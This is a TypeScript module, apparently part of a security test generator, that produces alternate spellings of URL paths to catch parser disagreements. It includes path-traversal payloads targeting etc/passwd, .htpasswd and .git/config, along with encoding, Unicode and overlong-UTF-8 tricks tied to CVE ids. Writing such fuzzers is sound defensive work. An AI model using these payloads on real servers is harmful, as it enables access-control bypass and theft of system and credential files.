/** Other spellings of a path: what one reader takes for the same path, another for a different one. */
import { wire } from "../case.ts";
import type { Random } from "../random.ts";
import type { Trick } from "./draft.ts";

type Spell = (path: string, random: Random) => string;

const spelling = (name: string, answersTo: string, spell: Spell): Trick => ({
  name,
  answersTo,
  apply: (draft, random) => ({ ...draft, path: spell(draft.path, random) }),
});

/** Puts something in, before or after one of the slashes. */
const atSlash =
  (what: readonly string[], where: "before" | "after"): Spell =>
  (path, random) => {
    const slashes = [...path.matchAll(/\//g)].map(({ index }) => index);
    const at = slashes.length === 0 ? 0 : random.pick(slashes) + (where === "after" ? 1 : 0);
    return path.slice(0, at) + random.pick(what) + path.slice(at);
  };
const append =
  (what: readonly string[]): Spell =>
  (path, random) =>
    path + random.pick(what);
/** Writes one letter, or several, another way. */
const letters =
  (write: (char: string, random: Random) => string): Spell =>
  (path, random) => {
    const all = random.chance(0.3);
    const places = [...path].flatMap((char, i) => (/[\w.-]/.test(char) ? [i] : []));
    if (places.length === 0) return path;
    const one = random.pick(places);
    return [...path]
      .map((char, i) => (i === one || (all && /[\w.-]/.test(char)) ? write(char, random) : char))
      .join("");
  };
const instead =
  (char: RegExp, what: readonly string[]): Spell =>
  (path, random) => {
    const places = [...path.slice(1).matchAll(char)].map(({ index }) => index + 1);
    if (places.length === 0) return path;
    const at = random.pick(places);
    return path.slice(0, at) + random.pick(what) + path.slice(at + 1);
  };

const hex = (code: number, random: Random): string => {
  const text = code.toString(16).padStart(2, "0");
  return `%${random.chance(0.5) ? text : text.toUpperCase()}`;
};
const escaped = (text: string, random: Random): string =>
  Array.from(wire(text), (octet) => hex(octet.charCodeAt(0), random)).join("");

/** Letters that fold or normalise to a letter of ASCII (Unicode NFKC, case folding). */
const LOOKALIKES: Readonly<Record<string, readonly string[]>> = {
  s: ["ſ", "ｓ", "ꜱ"],
  k: ["K", "ｋ"],
  i: ["ı", "İ", "ｉ", "ⅰ"],
  a: ["ａ", "ª", "á", "а"],
  m: ["ｍ", "ⅿ"],
  n: ["ｎ", "ⁿ"],
  d: ["ｄ", "ⅾ"],
  e: ["ｅ", "е"],
  ".": ["．", "․", "。"],
  "7": ["７", "⁷", "𝟟"],
};
const lookalike = (char: string, random: Random): string => {
  const options = LOOKALIKES[char.toLowerCase()];
  return options === undefined ? char : random.pick(options);
};

/** An octet or two written in more octets than it needs (RFC 3629 §3). */
const OVERLONG: Readonly<Record<string, readonly string[]>> = {
  "/": ["%c0%af", "%e0%80%af", "%f0%80%80%af", "%C0%2F"],
  ".": ["%c0%ae", "%e0%80%ae", "%C0%2E"],
  a: ["%c1%a1", "%e0%81%a1"],
};

const DOTS = [
  "..",
  "%2e%2e",
  "%2E.",
  ".%2e",
  "%252e%252e",
  "%2e%2e%00",
  "..%00",
  "%c0%ae%c0%ae",
  "..;",
  "..%3b",
  "．．",
].map((dots) => wire(dots));
const SEPARATORS = ["/", "%2f", "%2F", "%5c", "%5C", "\\", "%252f", "%255c", "//", "/./", "%c0%af", "/%2e/", "%2f/"];

export const spellings: readonly Trick[] = [
  spelling("as it is", "RFC 9110 §4.2.3", (path) => path),
  spelling("trailing slash", "CVE-2026-2293", append(["/", "//", "/.", "/./", "%2f", "%2F", "%5c", "\\", "/%2e"])),
  spelling("doubled slash", "CVE-2026-22031", atSlash(["/", "//", "/%2f", "/./"], "before")),
  spelling(
    "leading slashes",
    "GHSA-5w89-w975-hf9q",
    (path, random) => random.pick(["/", "//", "/\\", "\\", "/%2f", "/%5c"]) + path,
  ),
  spelling("encoded slash", "CVE-2026-54281", instead(/\//g, ["%2f", "%2F", "%252f", "%25252f"])),
  spelling("backslash", "GHSA-wwfh-h76j-fc44", instead(/\//g, ["\\", "%5c", "%5C", "%255c", "\\/", "/\\"])),
  spelling("path params", "GHSA-wmmm-f939-6g9c", (path, random) => {
    const params = [";", ";a=b", ";/", "%3b", ";jsessionid=1", ";.css", ";%2f..", ","];
    return random.chance(0.5) ? atSlash(params, "before")(path, random) : path + random.pick(params);
  }),
  spelling("dot segments", "RFC 3986 §5.2.4", (path, random) => {
    const dots = random.pick(["/.", "/a/..", "/./.", "/a/b/../..", "/public/..", "/..", "/a/%2e%2e", "/.%2e", "/%2e"]);
    const at = path.lastIndexOf("/", random.below(path.length) + 1);
    return path.slice(0, Math.max(at, 0)) + dots + path.slice(Math.max(at, 0));
  }),
  spelling("dots and separators", "CVE-2026-29045", (path, random) => {
    const up = random.pick(SEPARATORS) + random.pick(DOTS) + random.pick(SEPARATORS);
    const deep = random.pick(["/public", "/a", "", "/assets", "/admin-public", "/a/b"]);
    return deep + up + path.slice(1);
  }),
  spelling("climbing out", "CVE-2026-15074", (path, random) => {
    const climb = `${random.pick(DOTS)}${random.pick(SEPARATORS)}`.repeat(1 + random.below(6));
    const goal = random.pick([
      "secret.txt",
      ".htpasswd",
      "etc/passwd",
      "app.css",
      "report.txt",
      "windows/win.ini",
      ".git/config",
    ]);
    return `${path.slice(0, path.lastIndexOf("/"))}/${climb}${goal}`;
  }),
  spelling(
    "encoded letters",
    "CVE-2026-54281",
    letters((char, random) => hex(char.charCodeAt(0), random)),
  ),
  spelling(
    "letters encoded twice",
    "GHSA-72gr-qfp7-vwhw",
    letters((char, random) => hex(char.charCodeAt(0), random).replace("%", random.pick(["%25", "%2525"]))),
  ),
  spelling(
    "another case",
    "CVE-2026-33490",
    letters((char) => (char === char.toUpperCase() ? char.toLowerCase() : char.toUpperCase())),
  ),
  spelling(
    "lookalikes",
    "UTS 39",
    letters((char, random) =>
      random.chance(0.5) ? wire(lookalike(char, random)) : escaped(lookalike(char, random), random),
    ),
  ),
  spelling(
    "combining marks",
    "UAX 15",
    letters((char, random) => char + random.pick([wire("\u0301"), "%cc%81", "%e2%80%8b", "%c2%ad", "%ef%bb%bf"])),
  ),
  spelling("overlong UTF-8", "RFC 3629 §3", (path, random) => {
    const chars = Object.keys(OVERLONG);
    const char = random.pick(chars);
    return path.slice(0, 1) + path.slice(1).replace(char, random.pick(OVERLONG[char] ?? [""]));
  }),
  spelling(
    "invalid UTF-8",
    "RFC 3629 §3",
    append(["%ff", "%80", "%e2%82", "%ed%a0%80", "%f4%90%80%80", "\xff", "\xc3"]),
  ),
  spelling("broken escapes", "RFC 3986 §2.1", append(["%", "%2", "%zz", "%u002f", "%%32%66", "%2%66", "%+1"])),
  spelling("controls", "RFC 9112 §3", (path, random) => {
    const control = random.pick(["%00", "%0d%0a", "%09", "%20", "%0a", "%7f", "%1f", "%00.json", "%0d", "\t", " "]);
    return random.chance(0.5) ? path + control : path.slice(0, 1) + control + path.slice(1);
  }),
  spelling(
    "extension",
    "CVE-2026-44575",
    append([".json", ".html", ".rsc", ".txt", ".xml", ".js", ".json/", ".JSON", ".map", ".prefetch.rsc"]),
  ),
  spelling("prefix neighbours", "CVE-2026-33490", append(["-public", "x", "_", "-", "~", ".", "0", "%20", "@", "'"])),
  spelling("beneath and above", "CVE-2026-44575", (path, random) =>
    random.pick([
      `${path}/index.html`,
      `${path}/index`,
      `/_next/data/build${path}.json`,
      `/_nuxt${path}`,
      `/api${path}`,
      `/public${path}`,
      `/static${path}`,
      `${path}${path}`,
      `/.${path}`,
      `/index.php${path}`,
      path.slice(0, Math.max(path.lastIndexOf("/"), 1)),
    ]),
  ),
  spelling("very long", "CVE-2024-45296", (path, random) => {
    const long = random.pick([
      "/a".repeat(300),
      "/.".repeat(1000),
      "a".repeat(3000),
      "/a/..".repeat(400),
      "-a".repeat(1000),
      "%2e".repeat(500),
      "/".repeat(2000),
      "x".repeat(9000),
    ]);
    return random.chance(0.5) ? long + path : path + long;
  }),
];
